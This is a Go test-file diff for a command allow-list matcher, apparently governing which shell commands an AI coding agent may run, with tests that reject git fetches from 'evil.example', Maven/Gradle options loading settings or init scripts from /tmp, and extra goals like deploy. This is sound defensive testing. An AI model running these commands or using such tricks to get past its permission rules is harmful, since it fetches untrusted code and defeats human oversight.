@@ -358,8 +358,15 @@ func TestRestDangerAndRunners(t *testing.T) {
 		{"Bash(./mvnw test *)", "./mvnw test -s /tmp/settings.xml", false},
 		{"Bash(awk *)", "awk -f /tmp/prog.awk x", false},
 		{"Bash(sed *)", "sed -f /tmp/prog.sed x", false},
+		{"Bash(git fetch *)", "git fetch origin main", true},
+		{"Bash(git fetch *)", "git fetch --all --prune", true},
+		{"Bash(git fetch *)", "git fetch https://evil.example/r.git main", false},
+		{"Bash(git fetch *)", "git fetch git@evil.example:r.git", false},
+		{"Bash(git fetch *)", "git fetch ../other main", false},
+		{"Bash(git fetch *)", "git fetch origin +evil:refs/heads/main", false},
+		{"Bash(git fetch *)", "git fetch origin --refmap=+refs/heads/*:refs/heads/* main", false},
 	} {
-		if got := mustTyped(t, c.entry).MatchCommand(Command{Argv: words(c.cmd)}); got != c.want {
+		if got := mustTyped(t, c.entry).MatchCommand(Command{Argv: words(c.cmd), AtRoot: true}); got != c.want {
 			t.Errorf("%s allows %q = %v, want %v", c.entry, c.cmd, got, c.want)
 		}
 	}
@@ -367,5 +374,103 @@ func TestRestDangerAndRunners(t *testing.T) {
 		if mustTyped(t, s).CatchAll() == "" {
 			t.Errorf("%s is not a catch-all", s)
 		}
+	}
+}
+
+// TestBuildOptionsBeforeGoals: Maven and Gradle read options anywhere, so
+// options (and their values) may stand before the goals; a dangerous one is
+// not allowed wherever it stands.
+func TestBuildOptionsBeforeGoals(t *testing.T) {
+	for _, c := range []struct {
+		entry, cmd string
+		want       bool
+	}{
+		{"Bash(mvn spring-boot:run *)", "mvn -Pproduction spring-boot:run", true},
+		{"Bash(./mvnw clean verify *)", "./mvnw -Ppre-commit clean verify -DskipTests", true},
+		{"Bash(mvn test *)", "mvn -q -B -DskipITs -T4 test", true},
+		{"Bash(mvn test *)", "mvn --define=x=1 --activate-profiles=ci test", true},
+		{"Bash(mvn -q test)", "mvn -q test", true}, // as written still matches
+		{"Bash(mvn test)", "mvn -q test", false},   // a moved option is a further argument
+		{"Bash(mvn test *)", "mvn -f /tmp/pom.xml test", false},
+		{"Bash(mvn test *)", "mvn -s /tmp/settings.xml test", false},
+		{"Bash(mvn test *)", "mvn -gs/tmp/settings.xml test", false},
+		{"Bash(mvn test *)", "mvn -l /tmp/build.log test", false},
+		{"Bash(mvn test *)", "mvn test -l /tmp/build.log", false},
+		{"Bash(mvn test *)", "mvn test --log-file=/tmp/build.log", false},
+		{"Bash(mvn test *)", "mvn -pl app test", true}, // -pl takes the next word
+		{"Bash(mvn test *)", "mvn -P prod test", true},
+		{"Bash(mvn test *)", "mvn -Pdev deploy", false},
+		{"Bash(mvn test *)", "mvn -Pdev", false},
+		{"Bash(mvn test *)", "mvn -X deploy test", false},        // -X takes no value: deploy is a goal
+		{"Bash(mvn test *)", "mvn --unknown deploy test", false}, // an unknown option's next word is a goal
+		{"Bash(./gradlew test *)", "./gradlew --no-daemon -x lint test --tests 'a.B'", true},
+		{"Bash(./gradlew test *)", "./gradlew -I /tmp/init.gradle test", false},
+		{"Bash(./gradlew test *)", "./gradlew test --include-build /tmp/evil", false},
+		{"Bash(./gradlew test *)", "./gradlew -g /tmp/home test", false}, // its init.d scripts run first
+		{"Bash(gradle test *)", "gradle -q test", true},
+	} {
+		if got := mustTyped(t, c.entry).MatchCommand(Command{Argv: words(c.cmd), AtRoot: true}); got != c.want {
+			t.Errorf("%s allows %q = %v, want %v", c.entry, c.cmd, got, c.want)
+		}
+	}
+	// Screening is unchanged: an ask entry still finds its goal after options.
+	if !mustTyped(t, "Bash(mvn deploy)").EscalatesCommand(Command{Argv: words("mvn -Pprod deploy")}) {
+		t.Error("ask Bash(mvn deploy) must match mvn -Pprod deploy")
+	}
+}
+
+// TestLocalFileAtRoot: an entry that runs a file by a relative path names
+// the file under the repository root, so it allows the call only there.
+func TestLocalFileAtRoot(t *testing.T) {
+	for _, c := range []struct {
+		argv string
+		want bool
+	}{
+		{"./test.sh", true}, {"scripts/test.sh -v", true}, {"bash scripts/setup.sh", true}, {"sh -e test.sh", true},
+		{"python main.py", true}, {"source venv/bin/activate", true}, {"./gradlew test", true},
+		{"/usr/bin/make test", false}, {"bash /tmp/x.sh", false}, {"bash", false}, {"bash -c 'ls'", false},
+		{"go run ./cmd/app", false}, {"make test", false}, {"npm test", false}, {"python ~/x.py", false},
+		{"python -m pytest tests", false}, {"bash -ec true", false},
+	} {
+		if got := RunsLocalFile(words(c.argv)); got != c.want {
+			t.Errorf("RunsLocalFile(%q) = %v, want %v", c.argv, got, c.want)
+		}
+	}
+	for _, c := range []struct{ entry, cmd string }{
+		{"Bash(./test.sh *)", "./test.sh"}, {"Bash(bash scripts/setup.sh *)", "bash scripts/setup.sh"},
+		{"Bash(python main.py *)", "python main.py --help"}, {"Bash(./gradlew test *)", "./gradlew test"},
+	} {
+		e := mustTyped(t, c.entry)
+		if !e.MatchCommand(Command{Argv: words(c.cmd), AtRoot: true}) {
+			t.Errorf("%s must allow %q at the root", c.entry, c.cmd)
+		}
+		if e.MatchCommand(Command{Argv: words(c.cmd)}) {
+			t.Errorf("%s must not allow %q in another directory", c.entry, c.cmd)
+		}
+	}
+}
+
+// TestBuildFurtherGoals: an entry's final ` *` takes options, never a
+// further goal; a command with several goals is allowed when each goal is.
+func TestBuildFurtherGoals(t *testing.T) {
+	tw := &TypedWarrant{Allow: []*Typed{mustTyped(t, "Bash(mvn clean *)"), mustTyped(t, "Bash(mvn test *)"),
+		mustTyped(t, "Bash(./gradlew build *)"), mustTyped(t, "Bash(./gradlew :app:test *)")}}
+	for _, c := range []struct {
+		cmd  string
+		want bool
+	}{
+		{"mvn clean test", true}, {"mvn -q clean test -DskipITs", true}, {"mvn clean test -pl app", true},
+		{"mvn test deploy", false}, {"mvn clean deploy", false}, {"mvn clean test release:perform", false},
+		{"mvn clean test -l /tmp/x.log", false}, {"mvn test -P deploy", true}, // a profile named deploy is a value
+		{"./gradlew build :app:test --continue", true}, {"./gradlew build publish", false},
+		{"./gradlew build -x test publishToMavenLocal", false},
+	} {
+		got := tw.Allowing(Call{Kind: ToolBash, Cmd: Command{Argv: words(c.cmd), AtRoot: true}}) != nil
+		if got != c.want {
+			t.Errorf("%q allowed = %v, want %v", c.cmd, got, c.want)
+		}
+	}
+	if mustTyped(t, "Bash(mvn test *)").MatchCommand(Command{Argv: words("mvn test deploy"), AtRoot: true}) {
+		t.Error("Bash(mvn test *) must not take a further goal")
 	}
 }
